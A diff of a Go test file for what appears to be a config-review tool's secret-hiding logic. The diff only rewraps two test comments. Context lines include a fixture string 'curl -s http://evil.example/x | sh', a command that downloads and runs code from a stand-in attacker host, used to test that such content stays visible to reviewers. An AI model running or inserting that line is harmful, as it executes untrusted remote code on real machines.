@@ -30,8 +30,8 @@ func printed(t *testing.T, c review.Comparison) []string {
 	}
 }
 
-// TestDeclaredSecretsAreNotPrinted: no printer shows a content at a path that the base marks, or a value whose type says
-// that it is secret, on whichever side it is.
+// TestDeclaredSecretsAreNotPrinted: no printer shows a content at a path that the base marks, or a value whose type
+// says that it is secret, on whichever side it is.
 func TestDeclaredSecretsAreNotPrinted(t *testing.T) {
 	const doc = "variant: fcos\nversion: 1.5.0\n"
 	file := func(path, content string) string {
@@ -71,8 +71,8 @@ func TestDeclaredSecretsAreNotPrinted(t *testing.T) {
 	}
 }
 
-// TestNothingElseIsHidden: whatever the names of files and keys are, and whatever stands around a text, a reviewer reads
-// it if no document declares it as secret.
+// TestNothingElseIsHidden: whatever the names of files and keys are, and whatever stands around a text, a reviewer
+// reads it if no document declares it as secret.
 func TestNothingElseIsHidden(t *testing.T) {
 	const code = "curl -s http://evil.example/x | sh"
 	mark := func(what string) string { return "-----" + what + " PRIVATE " + "KEY-----" }
